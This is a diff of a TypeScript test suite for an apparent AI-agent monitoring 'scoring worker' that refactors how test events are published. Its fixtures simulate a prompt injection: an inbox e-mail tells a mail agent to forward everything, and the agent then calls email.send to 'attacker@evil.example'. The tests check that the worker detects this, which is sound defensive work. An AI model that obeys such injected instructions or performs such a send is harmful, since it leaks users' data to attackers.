@@ -1,12 +1,22 @@
 import { MemoryBus, type Bus } from '@warden/bus';
 import { drivenEvents } from '../../../packages/bus/testkit/driven-events';
-import { IDLE_STREAM_MS, Topics, silentLogger, type AgentEvent, type RiskFinding, type SessionVerdict } from '@warden/core';
+import { IDLE_STREAM_MS, Topics, agentKey, silentLogger, type AgentEvent, type RiskFinding, type SessionVerdict } from '@warden/core';
 import { SessionBuilder } from '../../../packages/detection/testdata/session-builder';
 import { createScoringWorker } from './scoring-worker';
 import { promptly } from '../../../test/support/eventually';
 
 const MIN = 60_000;
 const agent = { tenant: 'acme', agentId: 'mail-1', agentType: 'mail', convention: 'otel_genai' as const };
+
+/** Publishes `events` as the receiver does, each keyed by its agent. */
+function publishEvents(bus: Bus, events: readonly AgentEvent[]): Promise<void> {
+  return bus.publish(Topics.events, events.map((value) => ({ key: agentKey(value), value })));
+}
+
+/** A one-turn session of `who` at `startMs`: traffic that moves event time on. */
+function greeting(who: typeof agent, sessionId: string, startMs: number): AgentEvent[] {
+  return new SessionBuilder(who, sessionId, startMs).turn('Hello.').events;
+}
 
 /** mail-1's session `id`: the user asks for the inbox, and the one e-mail in it tells the model to send everything to the attacker. */
 function injectedInbox(id: string): SessionBuilder {
@@ -44,11 +54,9 @@ describe('scoring worker', () => {
 
     const b = injectedInbox('s1');
     b.tool('email.send', { to: 'attacker@evil.example', body: 'jane@mail.example' }, { ok: true });
-    await bus.publish(Topics.events, b.events.map((value) => ({ key: 'acme/mail-1', value })));
+    await publishEvents(bus, b.events);
     // A later session moves event time past s1's idle gap: s1 has ended.
-    const later = new SessionBuilder(agent, 's2', 60 * MIN);
-    later.turn('Hello.');
-    await bus.publish(Topics.events, later.events.map((value) => ({ key: 'acme/mail-1', value })));
+    await publishEvents(bus, greeting(agent, 's2', 60 * MIN));
 
     const isFinding = (x: RiskFinding | SessionVerdict): x is RiskFinding => 'activity' in x;
     await promptly(() => log.some((x) => isFinding(x) && x.activity === 'close'), 'the Close of s1');
@@ -86,15 +94,13 @@ describe('scoring worker', () => {
     await worker.start();
 
     const s1 = injectedInbox('s1');
-    await bus.publish(Topics.events, s1.events.map((value) => ({ key: 'acme/mail-1', value })));
-    const skewed = new SessionBuilder({ ...agent, agentId: 'mail-2' }, 'skewed', 120 * MIN);
-    skewed.turn('Hello.');
-    await bus.publish(Topics.events, skewed.events.map((value) => ({ key: 'acme/mail-2', value })));
+    await publishEvents(bus, s1.events);
+    await publishEvents(bus, greeting({ ...agent, agentId: 'mail-2' }, 'skewed', 120 * MIN));
     await promptly(() => worker.stats().eventsAheadOfClock > 0, 'the skewed events counted');
     await new Promise((r) => setTimeout(r, 50));
     expect(verdicts.filter((v) => v.sessionId === 's1')).toEqual([]);
 
-    await bus.publish(Topics.events, sendToAttacker(s1).map((value) => ({ key: 'acme/mail-1', value })));
+    await publishEvents(bus, sendToAttacker(s1));
     await promptly(() => findings.some((f) => f.sessionId === 's1' && f.signals.some((x) => x.rule === 'correlation.trigger_then_sensitive_action')), 'the correlated finding on s1');
     expect(new Set(findings.filter((f) => f.sessionId === 's1').map((f) => f.findingId)).size).toBe(1);
     expect(findings.filter((f) => f.sessionId === 's1').map((f) => f.activity)).not.toContain('close');
@@ -114,7 +120,7 @@ describe('scoring worker', () => {
     let nowMs = lastSpanMs;
     const worker = createScoringWorker({ sessionIdleMs: 10 * MIN, tickMs: 5, lateArrivalGraceMs: 2_000 }, { bus, logger: silentLogger, clock: { nowMs: () => nowMs } });
     await worker.start();
-    await bus.publish(Topics.events, s1.events.map((value) => ({ key: 'acme/mail-1', value })));
+    await publishEvents(bus, s1.events);
     await promptly(() => worker.stats().eventsScored === s1.events.length, "s1's events scored");
 
     nowMs = lastSpanMs + 10 * MIN - 1_000;
@@ -138,14 +144,12 @@ describe('scoring worker', () => {
       const worker = createScoringWorker({ sessionIdleMs: 10 * MIN, tickMs: 5, lateArrivalGraceMs }, { bus, logger: silentLogger, clock: { nowMs: () => nowMs } });
       await worker.start();
       const s1 = injectedInbox('s1');
-      await bus.publish(Topics.events, s1.events.map((value) => ({ key: 'acme/mail-1', value })));
-      const other = new SessionBuilder({ ...agent, agentId: 'mail-2' }, 'other', 60 * MIN);
-      other.turn('Hello.');
-      await bus.publish(Topics.events, other.events.map((value) => ({ key: 'acme/mail-2', value })));
+      await publishEvents(bus, s1.events);
+      await publishEvents(bus, greeting({ ...agent, agentId: 'mail-2' }, 'other', 60 * MIN));
       // The send is in the exporter's next batch, a second later.
       nowMs += 1_000;
       await new Promise((r) => setTimeout(r, 50));
-      await bus.publish(Topics.events, sendToAttacker(s1).map((value) => ({ key: 'acme/mail-1', value })));
+      await publishEvents(bus, sendToAttacker(s1));
       nowMs += 60_000;
       // Nothing more arrives: the wall clock ends what is left.
       await promptly(() => worker.stats().liveSessions === 0, 'every session to end');
@@ -176,16 +180,16 @@ describe('scoring worker', () => {
     await worker.start();
     // acme replays its history from three hours ago; globex's agents work live, every second.
     const s1 = injectedInbox('s1');
-    await bus.publish(Topics.events, s1.events.map((value) => ({ key: 'acme/mail-1', value })));
+    await publishEvents(bus, s1.events);
     const live = new SessionBuilder({ ...agent, tenant: 'globex' }, 'live', nowMs);
     for (let i = 0; i < 5; i++) {
       live.turn('Next.');
-      await bus.publish(Topics.events, live.events.slice(-1).map((value) => ({ key: 'globex/mail-1', value })));
+      await publishEvents(bus, live.events.slice(-1));
       nowMs += 1_000;
       await new Promise((r) => setTimeout(r, 20));
     }
     expect(findings.some((f) => f.sessionId === 's1' && f.activity === 'close')).toBe(false);
-    await bus.publish(Topics.events, sendToAttacker(s1).map((value) => ({ key: 'acme/mail-1', value })));
+    await publishEvents(bus, sendToAttacker(s1));
     nowMs += 60 * MIN;
     await promptly(() => worker.stats().liveSessions === 0, 'every session to end');
     await worker.stop();
@@ -203,9 +207,7 @@ describe('scoring worker', () => {
       const s1 = new SessionBuilder(agent, 's1', 0);
       s1.turn('Check my inbox.');
       await deliver(s1.events, 0);
-      const s2 = new SessionBuilder(agent, 's2', MIN);
-      s2.turn('Hello.');
-      await deliver(s2.events, 100);
+      await deliver(greeting(agent, 's2', MIN), 100);
       expect(retained()).toEqual([
         { partition: 0, offset: '0' },
         { partition: 0, offset: '100' },
